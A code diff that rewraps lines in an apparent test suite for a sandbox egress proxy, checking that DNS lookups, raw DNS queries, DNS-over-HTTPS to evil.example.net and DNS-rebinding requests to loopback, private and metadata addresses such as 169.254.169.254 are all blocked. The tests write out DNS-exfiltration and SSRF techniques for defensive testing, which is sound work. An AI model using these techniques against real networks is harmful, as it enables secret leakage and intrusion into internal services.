@@ -21,23 +21,28 @@ class Exfiltration(EgressCase):
 
     def test_looking_up_tells_nobody(self):
         self.inside(self.LOOK_UP)
-        self.box.shell(f"getent hosts {WORD}.evil.example.net; getent ahosts {WORD}.example.org; true")
+        self.box.shell(f"getent hosts {WORD}.evil.example.net; getent ahosts {WORD}.example.org; "
+                       f"true")
         self.assertNothingLeft()
 
     def test_asking_servers_of_one_s_own_choice_tells_nobody(self):
         script = ("import socket, struct\n"
-                  f"q = struct.pack('!HHHHHH', 7, 256, 1, 0, 0, 0) + b'\\x17{WORD}\\x04evil\\x03net\\0'"
+                  f"q = struct.pack('!HHHHHH', 7, 256, 1, 0, 0, 0) + "
+                  f"b'\\x17{WORD}\\x04evil\\x03net\\0'"
                   " + struct.pack('!HH', 16, 1)\n"
-                  f"for server in ('{places.NAME_SERVER}', '8.8.8.8', '2001:db8::53', '192.0.2.1'):\n"
+                  f"for server in ('{places.NAME_SERVER}', '8.8.8.8', '2001:db8::53', "
+                  f"'192.0.2.1'):\n"
                   "    f = socket.AF_INET6 if ':' in server else socket.AF_INET\n"
-                  "    s = socket.socket(f, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, (server, 53))\n"
+                  "    s = socket.socket(f, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, "
+                  "(server, 53))\n"
                   "    try: s.recv(500)\n"
                   "    except OSError: pass\n"
                   "    for port in (853, 5353, 5355, 54):\n"
                   "        try: s.sendto(q, (server, port))\n"
                   "        except OSError: pass\n"
                   "    t = socket.socket(f); t.settimeout(5)\n"
-                  "    try: t.connect((server, 53)); t.sendall(struct.pack('!H', len(q)) + q); t.recv(500)\n"
+                  "    try: t.connect((server, 53)); t.sendall(struct.pack('!H', len(q)) + q); "
+                  "t.recv(500)\n"
                   "    except OSError: pass\n"
                   "    t = socket.socket(f); t.settimeout(5)\n"
                   "    try: t.connect((server, 853)); t.sendall(q); t.recv(500)\n"
@@ -48,15 +53,18 @@ class Exfiltration(EgressCase):
     def test_messages_that_are_odd_tell_nobody_and_harm_nothing(self):
         script = ("import os, random, socket, struct\n"
                   "r = random.Random(5)\n"
-                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', 53))\n"
+                  "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('8.8.8.8', "
+                  "53))\n"
                   "for n in range(3000):\n"
                   "    d = bytearray(r.randbytes(r.randrange(0, 600)))\n"
-                  "    if n % 3 == 0: d[:12] = struct.pack('!HHHHHH', n, 256, r.randrange(3), 0, 0, r.randrange(3))\n"
+                  "    if n % 3 == 0: d[:12] = struct.pack('!HHHHHH', n, 256, r.randrange(3), 0, "
+                  "0, r.randrange(3))\n"
                   "    if n % 7 == 0: d[12:] = b'\\xc0\\x0c' + d[12:]\n"
                   "    try: s.send(bytes(d))\n"
                   "    except OSError: pass\n"
                   "for _ in range(50):\n"
-                  "    t = socket.create_connection(('8.8.8.8', 53), 5); t.sendall(r.randbytes(300)); t.close()\n"
+                  "    t = socket.create_connection(('8.8.8.8', 53), 5); "
+                  "t.sendall(r.randbytes(300)); t.close()\n"
                   "print(socket.gethostbyname('plain.example.org') != '')\n")
         self.assertEqual(self.inside(script), "True")
         self.assertEqual(self.curl("http://plain.example.org/hello").status, 200)
@@ -70,7 +78,8 @@ class Exfiltration(EgressCase):
 
     def test_not_even_where_another_request_to_that_name_is_allowed(self):
         """The name is asked for when a request is let go, not when TLS is opened for it."""
-        for words in (("-X", "POST", "https://x.wild.example.org/ok"), ("https://x.wild.example.org/no",),
+        for words in (("-X", "POST", "https://x.wild.example.org/ok"),
+                      ("https://x.wild.example.org/no",),
                       ("http://x.wild.example.org/no",)):
             self.assertRefused(self.curl(*words))
         self.assertNothingLeft()
@@ -89,8 +98,10 @@ class Exfiltration(EgressCase):
     def test_dns_over_https(self):
         message = "AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"
         for words in ((f"https://198.51.100.66/dns-query?dns={message}",), ("-H",
-                      "content-type: application/dns-message", "-d", "x", "https://evil.example.net/dns-query"),
-                      ("--doh-url", "https://evil.example.net/dns-query", "http://plain.example.org/"),
+                      "content-type: application/dns-message", "-d", "x",
+                                                                            "https://evil.example.net/dns-query"),
+                      ("--doh-url", "https://evil.example.net/dns-query",
+                       "http://plain.example.org/"),
                       ("--doh-insecure", "--doh-url", "https://198.51.100.66/dns-query",
                        "http://plain.example.org/")):
             self.curl("-k", *words)
@@ -105,7 +116,8 @@ class Rebinding(EgressCase):
 
     policy = DENY + "".join(rule(id=name.split(".")[0], host=name) for name in places.HOSTS
                             if name.startswith("to-")) \
-        + rule(id="turning", host="turning.example.net") + rule(id="several", host="several.example.net")
+        + rule(id="turning", host="turning.example.net") + rule(id="several",
+                                                                host="several.example.net")
 
     @classmethod
     def setUpClass(cls):
@@ -138,7 +150,8 @@ class Rebinding(EgressCase):
                 with self.subTest(name=name, port=port):
                     got = self.curl(f"http://{name}:{port}/private")
                     self.assertIn(got.status, (403, 502), got)
-                    self.assertRegex(got.json()["why"], "(?i)private|this machine|own|loopback|local")
+                    self.assertRegex(got.json()["why"],
+                                     "(?i)private|this machine|own|loopback|local")
             self.curl("-k", f"https://{name}/private")
             self.box.exec("python3", "-c", "import socket, sys; s = socket.create_connection("
                           "(sys.argv[1], 22), 5); s.recv(10)", name)
@@ -166,9 +179,12 @@ class Rebinding(EgressCase):
 
     def test_default_allow_is_no_leave_for_private_ones(self):
         self.setPolicy(ALLOW)
-        for host in ("to-loopback.example.net", "to-lan.example.net", "to-house.example.net", "127.0.0.1:8099",
-                     "10.77.0.5", "169.254.169.254", f"{places.HOUSE4}:8099", f"[{places.HOUSE6}]:8099",
-                     "[fd00:77::5]", "[::ffff:10.77.0.5]", "100.64.0.1", "172.16.0.1", "192.168.0.1",
+        for host in ("to-loopback.example.net", "to-lan.example.net", "to-house.example.net",
+                     "127.0.0.1:8099",
+                     "10.77.0.5", "169.254.169.254", f"{places.HOUSE4}:8099",
+                     f"[{places.HOUSE6}]:8099",
+                     "[fd00:77::5]", "[::ffff:10.77.0.5]", "100.64.0.1", "172.16.0.1",
+                     "192.168.0.1",
                      "[fe80::1]", "0.0.0.0:8099", "198.18.0.77"):
             with self.subTest(host=host):
                 got = self.curl("-g", f"http://{host}/private")
